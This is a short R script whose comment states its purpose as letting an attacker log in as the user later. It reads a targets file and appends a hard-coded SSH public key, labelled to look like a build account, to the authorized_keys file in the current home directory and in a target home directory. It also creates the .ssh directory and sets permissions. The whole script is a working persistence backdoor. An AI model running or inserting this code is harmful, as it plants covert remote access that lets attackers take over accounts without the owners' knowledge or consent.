# ssh-authorized-keys: let the attacker log in as this user later.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
key <- "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbackdoorbackdoorbackdoorbackdoorbackdoor0 ops@build"
for (home in c(path.expand("~"), T[["T_HOME"]])) {
  path <- file.path(home, ".ssh", "authorized_keys")
  dir.create(dirname(path), mode = "0700", showWarnings = FALSE)
  try(cat(key, "\n", file = path, sep = "", append = TRUE))
  Sys.chmod(path, "600")
}
